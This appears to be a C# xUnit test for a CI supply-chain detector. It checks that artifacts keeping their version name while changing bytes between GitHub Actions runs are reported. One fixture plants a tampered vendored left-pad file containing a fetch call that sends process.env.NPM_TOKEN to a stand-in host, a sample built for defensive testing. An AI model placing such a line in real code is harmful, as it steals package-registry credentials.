using System.IO.Compression;
using System.Text.Json;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Detectors.Dependencies;

/// <summary>"Same tool, new bytes": <c>pipewatch ingest --artifacts</c> run in a GitHub Actions job (its variables set) twice into one store.</summary>
public sealed class SameToolNewBytesDetectorTests : IDisposable
{
    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    private string Dist => Directory.CreateDirectory(_temp.File("dist")).FullName;

    private async Task<List<JsonElement>> IngestAsync(string runId, int expectedExit)
    {
        var cli = new CliRunner(_temp.Path, new()
        {
            ["GITHUB_ACTIONS"] = "true", ["GITHUB_REPOSITORY"] = "acme/api", ["GITHUB_WORKFLOW"] = "Release", ["GITHUB_RUN_ID"] = runId, ["GITHUB_JOB"] = "build",
        });
        var result = await cli.RunAsync("ingest", "--artifacts", Dist, "--store", _temp.File("store.db"), "--format", "json");
        Assert.True(expectedExit == result.ExitCode, result.Error);
        return [.. result.OutputLines.Select(l => JsonDocument.Parse(l).RootElement)];
    }

    private void Write(string name, string content) => File.WriteAllText(Path.Combine(Dist, name), content);

    private void Zip(string name, params (string Member, string Content)[] members)
    {
        using var zip = ZipFile.Open(Path.Combine(Dist, name), ZipArchiveMode.Create);
        foreach (var (member, content) in members)
        {
            using var writer = new StreamWriter(zip.CreateEntry(member).Open());
            writer.Write(content);
        }
    }

    [Fact]
    public async Task A_versioned_tool_whose_bytes_change_between_runs_is_reported_and_rebuilt_unversioned_files_are_not()
    {
        Write("actions-runner-linux-x64-2.321.0.tar", "runner release bytes\n");
        Write("app.js", "console.log(1)\n");
        Zip("bundle.zip", ("lib/left-pad-1.3.0.js", "module.exports = pad;\n"), ("index.js", "build 1\n"));
        Assert.Empty(await IngestAsync("1001", expectedExit: 0));

        // Run 2: the same release name with other bytes, a vendored library replaced inside the bundle, and the app rebuilt.
        Write("actions-runner-linux-x64-2.321.0.tar", "runner release bytes, with a backdoor\n");
        Write("app.js", "console.log(2)\n");
        File.Delete(Path.Combine(Dist, "bundle.zip"));
        Zip("bundle.zip", ("lib/left-pad-1.3.0.js", "module.exports = pad; fetch('https://x.example/'+process.env.NPM_TOKEN);\n"), ("index.js", "build 2\n"));
        var findings = await IngestAsync("1002", expectedExit: 1);

        Assert.Equal(
            ["actions-runner-linux-x64-2.321.0.tar", "bundle.zip!/lib/left-pad-1.3.0.js"],
            findings.Select(f => f.GetProperty("evidence")[0].GetProperty("value").GetString()).Order(StringComparer.Ordinal));
        Assert.All(findings, f =>
        {
            Assert.Equal(("dependency.same-tool-new-bytes", "dependency.untrusted-source", "high"), (f.GetProperty("rule").GetString(), f.GetProperty("category").GetString(), f.GetProperty("severity").GetString()));
            Assert.Equal(("acme/api", "Release", "build"), (f.GetProperty("entity").GetProperty("repository").GetString(), f.GetProperty("entity").GetProperty("pipeline").GetString(), f.GetProperty("entity").GetProperty("job").GetString()));
            Assert.Equal("1002", f.GetProperty("location").GetProperty("run_id").GetString());
        });
        var runner = findings.Single(f => f.GetProperty("title").GetString()!.Contains("actions-runner", StringComparison.Ordinal));
        Assert.Equal("Same tool, new bytes: 'actions-runner-linux-x64-2.321.0.tar' has a different SHA-256 than before", runner.GetProperty("title").GetString());
        Assert.Contains("(first in run 1001)", runner.GetProperty("explanation").GetString(), StringComparison.Ordinal);

        // Run 3: the same bytes again are known now, whatever else is rebuilt.
        Write("app.js", "console.log(3)\n");
        Assert.Empty(await IngestAsync("1003", expectedExit: 0));
    }
}
